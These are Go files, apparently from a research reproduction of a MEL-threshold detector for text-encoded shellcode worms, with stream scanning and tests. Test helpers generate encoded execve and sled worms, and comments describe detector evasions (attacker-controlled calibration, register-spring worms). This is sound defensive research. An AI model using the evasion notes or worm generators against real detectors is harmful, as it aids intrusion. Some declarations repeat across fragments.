
// scan is the scan body: threshold derivation, the MEL measurement via
// engineScan (the standalone engine or a carrying window session), and
// verdict assembly. tr may be nil (untraced).
func (d *Detector) scan(payload []byte, tr *tracing.Trace, engineScan func([]byte, *tracing.Trace) (mel.Result, error)) (Verdict, error) {
	if len(payload) == 0 {
		return Verdict{}, ErrEmptyPayload
	}
	var (
		params melmodel.Params
		tau    float64
	)
	tr.StageStart(tracing.StageThreshold)
	if !d.perInput && d.calib != nil {
		p, t, err := d.threshold(len(payload))
		if err != nil {
			return Verdict{}, err
		}
		params, tau = p, t
	} else {
		freq := d.freq
		if d.perInput {
			f, err := corpus.Frequencies(payload)
			if err != nil {
				return Verdict{}, fmt.Errorf("scan: %w", err)
			}
			freq = f
		}
		p, err := melmodel.Estimate(freq, len(payload))
		if err != nil {
			return Verdict{}, fmt.Errorf("scan: estimate parameters: %w", err)
		}
		t, err := melmodel.Threshold(d.alpha, p.N, p.P)
		if err != nil {
			return Verdict{}, fmt.Errorf("scan: derive threshold: %w", err)
		}
		params, tau = p, t
	}
	textOnly := textins.IsTextStream(payload)
	tr.StageEnd(tracing.StageThreshold)
	res, err := engineScan(payload, tr)
	if err != nil {
		return Verdict{}, fmt.Errorf("scan: %w", err)
	}
	malicious := float64(res.MEL) > tau
	tr.SetVerdict(res.MEL, tau, malicious)
	v := Verdict{
		Malicious: malicious,
		MEL:       res.MEL,
		Threshold: tau,
		Params:    params,
		TextOnly:  textOnly,
		BestStart: res.BestStart,
	}
	if tr != nil {
		v.TraceID = tr.ID
	}
	return v, nil
}

// ScanAll scans a batch and returns the verdicts in input order. It is
// the single-worker form of ScanBatch, sharing its pooled scan state and
// error wrapping.
func (d *Detector) ScanAll(payloads [][]byte) ([]Verdict, error) {
	if len(payloads) == 0 {
		return []Verdict{}, nil
	}
	return d.ScanBatch(context.Background(), payloads, 1)
}

// Evaluation summarizes detection quality over labelled batches.
type Evaluation struct {
	TruePositives  int
	FalsePositives int
	TrueNegatives  int
	FalseNegatives int
}

// FalsePositiveRate returns FP / (FP + TN), or 0 when undefined.
func (e Evaluation) FalsePositiveRate() float64 {
	if e.FalsePositives+e.TrueNegatives == 0 {
		return 0
	}
	return float64(e.FalsePositives) / float64(e.FalsePositives+e.TrueNegatives)
}

// FalseNegativeRate returns FN / (FN + TP), or 0 when undefined.
func (e Evaluation) FalseNegativeRate() float64 {
	if e.FalseNegatives+e.TruePositives == 0 {
		return 0
	}
	return float64(e.FalseNegatives) / float64(e.FalseNegatives+e.TruePositives)
}

// Evaluate scans benign and malicious batches and tabulates the
// confusion counts — the Section 5.3 experiment shape.
func (d *Detector) Evaluate(benign, malicious [][]byte) (Evaluation, error) {
	var ev Evaluation
	for i, p := range benign {
		v, err := d.Scan(p)
		if err != nil {
			return ev, fmt.Errorf("benign %d: %w", i, err)
		}
		if v.Malicious {
			ev.FalsePositives++
		} else {
			ev.TrueNegatives++
		}
	}
	for i, p := range malicious {
		v, err := d.Scan(p)
		if err != nil {
			return ev, fmt.Errorf("malicious %d: %w", i, err)
		}
		if v.Malicious {
			ev.TruePositives++
		} else {
			ev.FalseNegatives++
		}
	}
	return ev, nil
}

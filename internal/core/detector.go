// Package core assembles the paper's deployable artifact: a text-malware
// detector whose MEL threshold is derived automatically from character
// frequencies and a user-chosen false-positive bound α — "easily
// deployable, signature-free, requires no parameter tuning, has user-
// configurable detection sensitivity" (Section 7).
//
// The detector is calibrated once, from a pre-set character-frequency
// table or a benign training sample (Section 5.2 allows either), and
// then scans payloads: estimate n from the payload size, take p from the
// calibration, derive τ(α, n, p), measure the payload's MEL by
// pseudo-execution, and flag it if MEL > τ.
package core

import (
	"errors"
	"fmt"

	"repro/internal/corpus"
	"repro/internal/mel"
	"repro/internal/melmodel"
	"repro/internal/textins"
)

// Configuration errors.
var (
	ErrBadAlpha      = errors.New("core: alpha must be in (0, 1)")
	ErrNotCalibrated = errors.New("core: detector not calibrated")
	ErrEmptyPayload  = errors.New("core: empty payload")
)

// Detector is a MEL-threshold text-malware detector.
type Detector struct {
	alpha    float64
	rules    mel.Rules
	mode     mel.Mode
	engine   *mel.Engine
	freq     [256]float64
	perInput bool
	ready    bool
}

// Option configures a Detector.
type Option func(*Detector) error

// WithAlpha sets the false-positive bound α (default 0.01, the paper's
// setting).
func WithAlpha(alpha float64) Option {
	return func(d *Detector) error {
		if alpha <= 0 || alpha >= 1 {
			return ErrBadAlpha
		}
		d.alpha = alpha
		return nil
	}
}

// WithRules overrides the invalidity rules (default: the full DAWN set).
func WithRules(rules mel.Rules) Option {
	return func(d *Detector) error {
		d.rules = rules
		return nil
	}
}

// WithMode overrides the scan mode (default: sequential, the
// model-faithful measurement).
func WithMode(mode mel.Mode) Option {
	return func(d *Detector) error {
		d.mode = mode
		return nil
	}
}

// WithPresetFrequencies calibrates from a pre-set character table, e.g.
// corpus.EnglishFreq().
func WithPresetFrequencies(freq [256]float64) Option {
	return func(d *Detector) error {
		d.freq = freq
		d.ready = true
		return nil
	}
}

// WithPerInputCalibration estimates p from each scanned payload's own
// character frequencies (the paper's "linear sweep of the input
// character stream" fallback). Note that this hands the attacker control
// over p: a worm built from characters that the rules never invalidate
// drives its own threshold up. Prefer preset or training calibration for
// adversarial settings.
func WithPerInputCalibration() Option {
	return func(d *Detector) error {
		d.perInput = true
		d.ready = true
		return nil
	}
}

// New builds a detector. Without a calibration option it defaults to the
// English-prose preset table.
func New(opts ...Option) (*Detector, error) {
	d := &Detector{
		alpha: 0.01,
		rules: mel.DAWN(),
		mode:  mel.ModeSequential,
	}
	for _, opt := range opts {
		if err := opt(d); err != nil {
			return nil, err
		}
	}
	if !d.ready {
		d.freq = corpus.EnglishFreq()
		d.ready = true
	}
	d.engine = mel.NewEngineMode(d.rules, d.mode)
	return d, nil
}

// Calibrate sets the frequency table from a benign training sample.
func (d *Detector) Calibrate(training []byte) error {
	freq, err := corpus.Frequencies(training)
	if err != nil {
		return fmt.Errorf("calibrate: %w", err)
	}
	d.freq = freq
	d.perInput = false
	d.ready = true
	return nil
}

// Alpha returns the configured false-positive bound.
func (d *Detector) Alpha() float64 { return d.alpha }

// Verdict is the result of scanning one payload.
type Verdict struct {
	// Malicious is true when MEL exceeds the derived threshold.
	Malicious bool
	// MEL is the measured maximum executable length.
	MEL int
	// Threshold is the derived τ for this payload's size.
	Threshold float64
	// Params are the model parameters used for the threshold.
	Params melmodel.Params
	// TextOnly reports whether the payload is pure keyboard-enterable
	// text (the channel the detector is designed for).
	TextOnly bool
	// BestStart is the offset where the longest path begins.
	BestStart int
}

// Scan analyzes one payload.
func (d *Detector) Scan(payload []byte) (Verdict, error) {
	if d == nil || d.engine == nil {
		return Verdict{}, ErrNotCalibrated
	}
	if len(payload) == 0 {
		return Verdict{}, ErrEmptyPayload
	}
	freq := d.freq
	if d.perInput {
		f, err := corpus.Frequencies(payload)
		if err != nil {
			return Verdict{}, fmt.Errorf("scan: %w", err)
		}
		freq = f
	}
	params, err := melmodel.Estimate(freq, len(payload))
	if err != nil {
		return Verdict{}, fmt.Errorf("scan: estimate parameters: %w", err)
	}
	tau, err := melmodel.Threshold(d.alpha, params.N, params.P)
	if err != nil {
		return Verdict{}, fmt.Errorf("scan: derive threshold: %w", err)
	}
	res, err := d.engine.Scan(payload)
	if err != nil {
		return Verdict{}, fmt.Errorf("scan: %w", err)
	}
	return Verdict{
		Malicious: float64(res.MEL) > tau,
		MEL:       res.MEL,
		Threshold: tau,
		Params:    params,
		TextOnly:  textins.IsTextStream(payload),
		BestStart: res.BestStart,
	}, nil
}

// ScanAll scans a batch and returns the verdicts.
func (d *Detector) ScanAll(payloads [][]byte) ([]Verdict, error) {
	out := make([]Verdict, 0, len(payloads))
	for i, p := range payloads {
		v, err := d.Scan(p)
		if err != nil {
			return nil, fmt.Errorf("payload %d: %w", i, err)
		}
		out = append(out, v)
	}
	return out, nil
}

// Evaluation summarizes detection quality over labelled batches.
type Evaluation struct {
	TruePositives  int
	FalsePositives int
	TrueNegatives  int
	FalseNegatives int
}

// FalsePositiveRate returns FP / (FP + TN), or 0 when undefined.
func (e Evaluation) FalsePositiveRate() float64 {
	if e.FalsePositives+e.TrueNegatives == 0 {
		return 0
	}
	return float64(e.FalsePositives) / float64(e.FalsePositives+e.TrueNegatives)
}

// FalseNegativeRate returns FN / (FN + TP), or 0 when undefined.
func (e Evaluation) FalseNegativeRate() float64 {
	if e.FalseNegatives+e.TruePositives == 0 {
		return 0
	}
	return float64(e.FalseNegatives) / float64(e.FalseNegatives+e.TruePositives)
}

// Evaluate scans benign and malicious batches and tabulates the
// confusion counts — the Section 5.3 experiment shape.
func (d *Detector) Evaluate(benign, malicious [][]byte) (Evaluation, error) {
	var ev Evaluation
	for i, p := range benign {
		v, err := d.Scan(p)
		if err != nil {
			return ev, fmt.Errorf("benign %d: %w", i, err)
		}
		if v.Malicious {
			ev.FalsePositives++
		} else {
			ev.TrueNegatives++
		}
	}
	for i, p := range malicious {
		v, err := d.Scan(p)
		if err != nil {
			return ev, fmt.Errorf("malicious %d: %w", i, err)
		}
		if v.Malicious {
			ev.TruePositives++
		} else {
			ev.FalseNegatives++
		}
	}
	return ev, nil
}

package core

import (
	"repro/internal/mel"
	"repro/internal/telemetry/tracing"
)

// WindowSession is a per-stream scan session: each window is judged
// exactly like Detector.Scan would judge it (same threshold, same
// verdict), but the MEL measurement runs through a mel.WindowScanner
// that carries the packed records of the window overlap, so only the
// newly arrived bytes are decoded. One session per stream; it is not
// safe for concurrent use. Close releases the pinned engine state.
type WindowSession struct {
	d  *Detector
	ws *mel.WindowScanner
}

// NewWindowSession opens a carrying scan session against the detector's
// current engine.
func (d *Detector) NewWindowSession() (*WindowSession, error) {
	if d == nil || d.engine == nil {
		return nil, ErrNotCalibrated
	}
	return &WindowSession{d: d, ws: d.engine.NewWindowScanner()}, nil
}

// Scan judges one window. advance is the stream distance from the
// previous window's start (the stride); pass 0 for the first window of
// a stream or whenever the window does not continue the previous one —
// the session then decodes it in full.
func (s *WindowSession) Scan(window []byte, advance int) (Verdict, error) {
	return s.ScanTraced(window, advance, nil)
}

// ScanTraced is Scan with per-stage instrumentation; the carried-record
// count lands on the trace alongside the stage timings.
func (s *WindowSession) ScanTraced(window []byte, advance int, tr *tracing.Trace) (Verdict, error) {
	return s.d.observed(window, tr, func(p []byte, t *tracing.Trace) (mel.Result, error) {
		return s.ws.ScanNextTraced(p, advance, t)
	})
}

// Stats returns the session's cumulative record-reuse counters.
func (s *WindowSession) Stats() mel.WindowStats { return s.ws.Stats() }

// LastReused returns the records carried into the most recent window.
func (s *WindowSession) LastReused() int { return s.ws.LastReused() }

// Reset drops the carry (the next window decodes in full) — call when
// the session moves to a new stream.
func (s *WindowSession) Reset() { s.ws.Reset() }

// Close releases the session's pinned scan state. The session must not
// be used after Close.
func (s *WindowSession) Close() { s.ws.Close() }

package core

import (
	"errors"
	"fmt"
	"io"

	"repro/internal/mel"
)

// Streaming defaults.
const (
	// DefaultWindow is the stream scanning window (the paper's case
	// size).
	DefaultWindow = 4096
	// DefaultStride is the window advance; windows overlap by
	// DefaultWindow - DefaultStride bytes so a worm straddling a window
	// boundary is still seen whole.
	DefaultStride = 2048
	// MaxWindow is the largest configurable scan window — the MEL
	// engine's stream-length ceiling. NewStreamScanner rejects larger
	// windows with ErrWindowTooLarge up front rather than failing (or
	// worse, truncating) mid-stream.
	MaxWindow = mel.MaxStreamLen
)

// ErrWindowTooLarge reports a scan window beyond MaxWindow.
var ErrWindowTooLarge = errors.New("core: window exceeds maximum scannable length")

// StreamAlert reports one flagged window of a stream.
type StreamAlert struct {
	// Offset is the window's byte offset within the stream.
	Offset int64
	// BestStart is the stream-absolute offset where the flagged
	// window's longest executable path begins (Offset plus the
	// window-relative Verdict.BestStart).
	BestStart int64
	// Verdict is the scan result for the window. Its BestStart is
	// window-relative, as Detector.Scan reports it.
	Verdict Verdict
}

// StreamScanner applies the detector to a byte stream in overlapping
// windows — the deployable, per-connection form of the detector
// ("easily deployable", Section 7). It is not safe for concurrent use;
// create one scanner per stream.
type StreamScanner struct {
	scan   func([]byte) (Verdict, error)
	window int
	stride int

	// sess, when set, carries the engine's packed records across the
	// window overlap so each window only decodes the newly arrived
	// bytes (NewStreamScanner sets it; the func form cannot). started
	// distinguishes the first window, which has no overlap to carry.
	sess    *WindowSession
	started bool

	buf    []byte
	offset int64
	alerts []StreamAlert
}

// NewStreamScanner wraps a detector. Non-positive window/stride take the
// defaults; stride must not exceed window, and window must not exceed
// MaxWindow.
func NewStreamScanner(det *Detector, window, stride int) (*StreamScanner, error) {
	if det == nil {
		return nil, errors.New("core: nil detector")
	}
	s, err := NewStreamScannerFunc(det.Scan, window, stride)
	if err != nil {
		return nil, err
	}
	sess, err := det.NewWindowSession()
	if err != nil {
		return nil, err
	}
	s.sess = sess
	return s, nil
}

// NewStreamScannerFunc builds a stream scanner over an arbitrary scan
// function — the hook that lets a shared scan service (worker pool,
// verdict cache) stand in for a local detector. The function must be
// safe for the scanner's call pattern: one call at a time per scanner.
func NewStreamScannerFunc(scan func([]byte) (Verdict, error), window, stride int) (*StreamScanner, error) {
	if scan == nil {
		return nil, errors.New("core: nil scan function")
	}
	if window <= 0 {
		window = DefaultWindow
	}
	if stride <= 0 {
		stride = DefaultStride
	}
	if window > MaxWindow {
		return nil, fmt.Errorf("core: window %d: %w", window, ErrWindowTooLarge)
	}
	if stride > window {
		return nil, fmt.Errorf("core: stride %d exceeds window %d", stride, window)
	}
	return &StreamScanner{
		scan:   scan,
		window: window,
		stride: stride,
		buf:    make([]byte, 0, window),
	}, nil
}

// Write feeds stream bytes; full windows are scanned as they complete.
// Write never blocks on detection results — collect them with Alerts.
//
// The carry buffer is bounded at one window: completed windows are
// compacted by copying the overlap down rather than re-slicing, so the
// backing array never grows, and when the buffer is empty whole windows
// are scanned directly from p without copying at all.
func (s *StreamScanner) Write(p []byte) (int, error) {
	n := len(p)
	for {
		if len(s.buf) == 0 {
			// Zero-copy fast path: scan complete windows in place.
			for len(p) >= s.window {
				if err := s.scanWindow(p[:s.window]); err != nil {
					return n, err
				}
				p = p[s.stride:]
			}
			s.buf = append(s.buf, p...)
			return n, nil
		}
		need := s.window - len(s.buf)
		if need > len(p) {
			s.buf = append(s.buf, p...)
			return n, nil
		}
		s.buf = append(s.buf, p[:need]...)
		p = p[need:]
		if err := s.scanWindow(s.buf); err != nil {
			return n, err
		}
		// Keep the window overlap: copy it to the front of the buffer.
		kept := copy(s.buf, s.buf[s.stride:])
		s.buf = s.buf[:kept]
	}
}

// scanOne dispatches one window to the carrying session when available
// (advance is the stride between consecutive windows, zero for the
// first) and to the plain scan function otherwise.
func (s *StreamScanner) scanOne(w []byte) (Verdict, error) {
	if s.sess == nil {
		return s.scan(w)
	}
	advance := 0
	if s.started {
		advance = s.stride
	}
	s.started = true
	return s.sess.Scan(w, advance)
}

// scanWindow scans one full window and records the alert; on success the
// stream position advances by one stride.
func (s *StreamScanner) scanWindow(w []byte) error {
	v, err := s.scanOne(w)
	if err != nil {
		return fmt.Errorf("window at %d: %w", s.offset, err)
	}
	if v.Malicious {
		s.alerts = append(s.alerts, StreamAlert{
			Offset:    s.offset,
			BestStart: s.offset + int64(v.BestStart),
			Verdict:   v,
		})
	}
	s.offset += int64(s.stride)
	return nil
}

// Flush scans the trailing partial window (if any). Call once at end of
// stream.
func (s *StreamScanner) Flush() error {
	if len(s.buf) == 0 {
		return nil
	}
	v, err := s.scanOne(s.buf)
	if err != nil {
		return fmt.Errorf("final window at %d: %w", s.offset, err)
	}
	if v.Malicious {
		s.alerts = append(s.alerts, StreamAlert{
			Offset:    s.offset,
			BestStart: s.offset + int64(v.BestStart),
			Verdict:   v,
		})
	}
	s.buf = s.buf[:0]
	return nil
}

// Close releases the carrying session's pinned engine state (a no-op
// for the func form). The scanner must not be written to after Close;
// Alerts remains valid.
func (s *StreamScanner) Close() {
	if s.sess != nil {
		s.sess.Close()
		s.sess = nil
	}
}

// CarryStats returns the carrying session's cumulative record-reuse
// counters (all zero for the func form, which cannot carry, and after
// Close).
func (s *StreamScanner) CarryStats() mel.WindowStats {
	if s.sess == nil {
		return mel.WindowStats{}
	}
	return s.sess.Stats()
}

// Alerts returns the flagged windows so far (a copy).
func (s *StreamScanner) Alerts() []StreamAlert {
	out := make([]StreamAlert, len(s.alerts))
	copy(out, s.alerts)
	return out
}

// ScanStream is the convenience form: consume the whole reader and
// return the alerts.
func (d *Detector) ScanStream(r io.Reader, window, stride int) ([]StreamAlert, error) {
	s, err := NewStreamScanner(d, window, stride)
	if err != nil {
		return nil, err
	}
	defer s.Close()
	if _, err := io.Copy(s, r); err != nil {
		return nil, err
	}
	if err := s.Flush(); err != nil {
		return nil, err
	}
	return s.Alerts(), nil
}

var _ io.Writer = (*StreamScanner)(nil)

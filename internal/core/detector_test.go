package core

import (
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/mel"
	"repro/internal/shellcode"
)

func buildDetector(t *testing.T, opts ...Option) *Detector {
	t.Helper()
	d, err := New(opts...)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func benignCases(t *testing.T, seed uint64, count int) [][]byte {
	t.Helper()
	cases, err := corpus.Dataset(seed, count, 4000)
	if err != nil {
		t.Fatal(err)
	}
	out := make([][]byte, len(cases))
	for i, c := range cases {
		out[i] = c.Data
	}
	return out
}

func wormCases(t *testing.T, count int) [][]byte {
	t.Helper()
	out := make([][]byte, 0, count)
	payloads := shellcode.Corpus()
	for i := 0; i < count; i++ {
		sc := payloads[i%len(payloads)]
		if !sc.SpawnsShell {
			sc = shellcode.Execve()
		}
		w, err := encoder.Encode(sc.Code, encoder.Options{
			Seed:    uint64(i + 1),
			SledLen: 48 + i%80,
		})
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, w.Bytes)
	}
	return out
}

func TestOptionsValidation(t *testing.T) {
	if _, err := New(WithAlpha(0)); err == nil {
		t.Error("alpha=0 should fail")
	}
	if _, err := New(WithAlpha(1)); err == nil {
		t.Error("alpha=1 should fail")
	}
	d := buildDetector(t, WithAlpha(0.05))
	if d.Alpha() != 0.05 {
		t.Errorf("alpha = %v", d.Alpha())
	}
}

func TestScanValidation(t *testing.T) {
	d := buildDetector(t)
	if _, err := d.Scan(nil); err == nil {
		t.Error("empty payload should fail")
	}
	var nilDet *Detector
	if _, err := nilDet.Scan([]byte("x")); err == nil {
		t.Error("nil detector should fail")
	}
}

func TestCalibrate(t *testing.T) {
	d := buildDetector(t)
	training := corpus.Concat(mustDataset(t, 50, 20, 4000))
	if err := d.Calibrate(training); err != nil {
		t.Fatal(err)
	}
	if err := d.Calibrate(nil); err == nil {
		t.Error("empty training data should fail")
	}
}

func mustDataset(t *testing.T, seed uint64, count, size int) []corpus.Case {
	t.Helper()
	cases, err := corpus.Dataset(seed, count, size)
	if err != nil {
		t.Fatal(err)
	}
	return cases
}

// TestZeroFPZeroFN reproduces the paper's Section 5.3 headline: with the
// automatically derived threshold, every text worm is caught and no
// benign case is misclassified.
func TestZeroFPZeroFN(t *testing.T) {
	d := buildDetector(t)
	if err := d.Calibrate(corpus.Concat(mustDataset(t, 99, 30, 4000))); err != nil {
		t.Fatal(err)
	}
	benign := benignCases(t, 123, 50)
	worms := wormCases(t, 50)
	ev, err := d.Evaluate(benign, worms)
	if err != nil {
		t.Fatal(err)
	}
	if ev.FalsePositives != 0 {
		t.Errorf("false positives = %d, paper reports 0", ev.FalsePositives)
	}
	if ev.FalseNegatives != 0 {
		t.Errorf("false negatives = %d, paper reports 0", ev.FalseNegatives)
	}
	if ev.TruePositives != 50 || ev.TrueNegatives != 50 {
		t.Errorf("evaluation: %+v", ev)
	}
	if ev.FalsePositiveRate() != 0 || ev.FalseNegativeRate() != 0 {
		t.Errorf("rates: fp=%v fn=%v", ev.FalsePositiveRate(), ev.FalseNegativeRate())
	}
}

func TestVerdictFields(t *testing.T) {
	d := buildDetector(t)
	worms := wormCases(t, 1)
	v, err := d.Scan(worms[0])
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Error("worm not flagged")
	}
	if !v.TextOnly {
		t.Error("worm should be pure text")
	}
	if v.MEL < 120 {
		t.Errorf("worm MEL = %d", v.MEL)
	}
	if v.Threshold < 25 || v.Threshold > 70 {
		t.Errorf("threshold = %v, expected near the paper's 40", v.Threshold)
	}
	if float64(v.MEL) <= v.Threshold {
		t.Error("verdict inconsistent with MEL and threshold")
	}
	if v.Params.N == 0 || v.Params.P == 0 {
		t.Error("params not populated")
	}
}

func TestBenignVerdict(t *testing.T) {
	d := buildDetector(t)
	benign := benignCases(t, 77, 10)
	for i, b := range benign {
		v, err := d.Scan(b)
		if err != nil {
			t.Fatal(err)
		}
		if v.Malicious {
			t.Errorf("benign case %d flagged: MEL=%d τ=%v", i, v.MEL, v.Threshold)
		}
		if !v.TextOnly {
			t.Errorf("benign case %d not text", i)
		}
	}
}

func TestBinaryPayloadScan(t *testing.T) {
	// The detector accepts binary input too; a register-spring worm must
	// evade it (Section 4.1's point: MEL no longer works on binary).
	d := buildDetector(t)
	spring := shellcode.RegisterSpringWorm(0x8048000, 0x7F)
	v, err := d.Scan(spring.Code)
	if err != nil {
		t.Fatal(err)
	}
	if v.TextOnly {
		t.Error("binary worm misreported as text")
	}
	if v.Malicious {
		t.Error("register-spring worm should evade the MEL detector (no sled)")
	}
	// A sled worm is still caught.
	sled := shellcode.SledWorm(600)
	v, err = d.Scan(sled.Code)
	if err != nil {
		t.Fatal(err)
	}
	if !v.Malicious {
		t.Errorf("sled worm should be flagged: MEL=%d τ=%v", v.MEL, v.Threshold)
	}
}

func TestAlphaControlsSensitivity(t *testing.T) {
	// Smaller α → larger τ (fewer false alarms, more false negatives).
	strict := buildDetector(t, WithAlpha(0.0001))
	loose := buildDetector(t, WithAlpha(0.2))
	payload := benignCases(t, 5, 1)[0]
	vs, err := strict.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	vl, err := loose.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	if vs.Threshold <= vl.Threshold {
		t.Errorf("τ(α=1e-4)=%v should exceed τ(α=0.2)=%v", vs.Threshold, vl.Threshold)
	}
}

func TestPerInputCalibration(t *testing.T) {
	d := buildDetector(t, WithPerInputCalibration())
	benign := benignCases(t, 31, 5)
	for _, b := range benign {
		v, err := d.Scan(b)
		if err != nil {
			t.Fatal(err)
		}
		if v.Malicious {
			t.Errorf("benign flagged under per-input calibration: MEL=%d τ=%v", v.MEL, v.Threshold)
		}
	}
	// Document the adversarial weakness: worms still caught here because
	// their own character mix (text letters in immediates) keeps p > 0,
	// but the threshold is attacker-influenced.
	worm := wormCases(t, 1)[0]
	if _, err := d.Scan(worm); err != nil {
		t.Fatal(err)
	}
}

func TestAPERulesMissTextWorms(t *testing.T) {
	// Section 6: an APE-configured detector is ineffective on text.
	d := buildDetector(t, WithRules(mel.APE()))
	// With APE's narrow rules p is tiny on text, so Estimate derives it
	// from the same character table; the paper's point is the MEL gap
	// vanishes. Verify benign text already exceeds the paper's τ=40
	// under APE rules, destroying the separation.
	benign := benignCases(t, 17, 5)
	eng := mel.NewEngine(mel.APE())
	high := 0
	for _, b := range benign {
		res, err := eng.Scan(b)
		if err != nil {
			t.Fatal(err)
		}
		if res.MEL > 40 {
			high++
		}
	}
	if high == 0 {
		t.Error("benign text under APE rules should blow past the DAWN threshold")
	}
	_ = d
}

func TestScanAll(t *testing.T) {
	d := buildDetector(t)
	batch := benignCases(t, 3, 3)
	vs, err := d.ScanAll(batch)
	if err != nil {
		t.Fatal(err)
	}
	if len(vs) != 3 {
		t.Errorf("got %d verdicts", len(vs))
	}
	batch[1] = nil
	if _, err := d.ScanAll(batch); err == nil {
		t.Error("batch with empty payload should fail")
	}
}

func TestEvaluationRatesUndefined(t *testing.T) {
	var ev Evaluation
	if ev.FalsePositiveRate() != 0 || ev.FalseNegativeRate() != 0 {
		t.Error("empty evaluation rates should be 0")
	}
}

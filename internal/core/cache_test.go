package core

import (
	"bytes"
	"testing"

	"repro/internal/corpus"
	"repro/internal/melmodel"
)

// TestThresholdCacheMatchesUncached: the cached threshold path must
// produce exactly the Params and τ the direct Estimate+Threshold
// computation yields, across payload sizes.
func TestThresholdCacheMatchesUncached(t *testing.T) {
	d := buildDetector(t)
	payloads := benignCases(t, 77, 2)
	for _, size := range []int{100, 1024, 4000} {
		p := payloads[0][:size]
		// Scan twice: second hit comes from the cache.
		first, err := d.Scan(p)
		if err != nil {
			t.Fatal(err)
		}
		second, err := d.Scan(p)
		if err != nil {
			t.Fatal(err)
		}
		if first.Params != second.Params || first.Threshold != second.Threshold {
			t.Fatalf("size %d: cached scan diverged: %+v vs %+v", size, first, second)
		}
		// Compare against the detector's own stored table (EnglishFreq()
		// rebuilds its table per call with map-order float summation, so a
		// fresh copy can differ in the last ulp).
		params, err := melmodel.Estimate(d.freq, size)
		if err != nil {
			t.Fatal(err)
		}
		tau, err := melmodel.Threshold(d.Alpha(), params.N, params.P)
		if err != nil {
			t.Fatal(err)
		}
		if first.Params != params || first.Threshold != tau {
			t.Fatalf("size %d: cached path != direct computation:\n got %+v τ=%v\nwant %+v τ=%v",
				size, first.Params, first.Threshold, params, tau)
		}
	}
}

// TestCalibrateInvalidatesThresholdCache: recalibration must not serve
// thresholds derived from the previous frequency table.
func TestCalibrateInvalidatesThresholdCache(t *testing.T) {
	d := buildDetector(t)
	payload := benignCases(t, 78, 1)[0]
	before, err := d.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	// Retrain on a skewed sample: heavy in 'l'/'o' (I/O characters), so p
	// and therefore τ must move.
	training := bytes.Repeat([]byte("hello worlds "), 400)
	if err := d.Calibrate(training); err != nil {
		t.Fatal(err)
	}
	after, err := d.Scan(payload)
	if err != nil {
		t.Fatal(err)
	}
	if before.Params.P == after.Params.P {
		t.Fatal("recalibration did not change p; cache likely stale")
	}
	params, err := melmodel.Estimate(d.freq, len(payload))
	if err != nil {
		t.Fatal(err)
	}
	if after.Params != params {
		t.Fatalf("post-calibration params stale:\n got %+v\nwant %+v", after.Params, params)
	}
}

// TestStreamBufferBounded: the stream scanner's carry buffer must never
// grow beyond one window no matter how the input is chunked, and the
// alerts must be identical across chunkings.
func TestStreamBufferBounded(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(52, 6, 4000)
	if err != nil {
		t.Fatal(err)
	}
	var stream []byte
	for _, c := range cases {
		stream = append(stream, c.Data...)
	}
	var want []StreamAlert
	for i, chunk := range []int{1, 7, 333, 2048, 4096, 5000, len(stream)} {
		s, err := NewStreamScanner(d, 0, 0)
		if err != nil {
			t.Fatal(err)
		}
		for off := 0; off < len(stream); off += chunk {
			end := off + chunk
			if end > len(stream) {
				end = len(stream)
			}
			if _, err := s.Write(stream[off:end]); err != nil {
				t.Fatal(err)
			}
			if cap(s.buf) > s.window {
				t.Fatalf("chunk %d: buffer grew to %d (window %d)", chunk, cap(s.buf), s.window)
			}
		}
		if err := s.Flush(); err != nil {
			t.Fatal(err)
		}
		alerts := s.Alerts()
		if i == 0 {
			want = alerts
			continue
		}
		if len(alerts) != len(want) {
			t.Fatalf("chunk %d: %d alerts, want %d", chunk, len(alerts), len(want))
		}
		for j := range alerts {
			if alerts[j].Offset != want[j].Offset {
				t.Fatalf("chunk %d: alert %d at offset %d, want %d",
					chunk, j, alerts[j].Offset, want[j].Offset)
			}
		}
	}
}

// TestScanAllMatchesScan: the batch path must produce the verdicts of
// sequential Scan calls, in order, and keep the non-nil empty result for
// an empty batch.
func TestScanAllMatchesScan(t *testing.T) {
	d := buildDetector(t)
	batch := append(benignCases(t, 80, 3), wormCases(t, 2)...)
	vs, err := d.ScanAll(batch)
	if err != nil {
		t.Fatal(err)
	}
	for i, p := range batch {
		want, err := d.Scan(p)
		if err != nil {
			t.Fatal(err)
		}
		if vs[i] != want {
			t.Fatalf("verdict %d diverges from Scan: %+v vs %+v", i, vs[i], want)
		}
	}
	empty, err := d.ScanAll(nil)
	if err != nil {
		t.Fatal(err)
	}
	if empty == nil || len(empty) != 0 {
		t.Fatalf("empty batch: got %#v, want non-nil empty slice", empty)
	}
}

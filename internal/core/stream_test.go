package core

import (
	"bytes"
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
	"repro/internal/shellcode"
)

func streamDetector(t *testing.T) *Detector {
	t.Helper()
	d, err := New()
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestStreamScannerValidation(t *testing.T) {
	d := streamDetector(t)
	if _, err := NewStreamScanner(nil, 0, 0); err == nil {
		t.Error("nil detector should fail")
	}
	if _, err := NewStreamScanner(d, 100, 200); err == nil {
		t.Error("stride > window should fail")
	}
	s, err := NewStreamScanner(d, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	if s.window != DefaultWindow || s.stride != DefaultStride {
		t.Errorf("defaults not applied: %d %d", s.window, s.stride)
	}
}

func TestBenignStreamNoAlerts(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(51, 8, 4000)
	if err != nil {
		t.Fatal(err)
	}
	stream := corpus.Concat(cases)
	alerts, err := d.ScanStream(bytes.NewReader(stream), 4096, 2048)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) != 0 {
		t.Errorf("benign stream raised %d alerts: %+v", len(alerts), alerts[0].Verdict)
	}
}

func TestWormMidStreamCaught(t *testing.T) {
	d := streamDetector(t)
	cases, err := corpus.Dataset(52, 6, 4000)
	if err != nil {
		t.Fatal(err)
	}
	w, err := encoder.Encode(shellcode.Execve().Code, encoder.Options{Seed: 77, SledLen: 64})
	if err != nil {
		t.Fatal(err)
	}
	// Splice the worm into the middle of benign traffic, deliberately
	// not aligned to any window boundary.
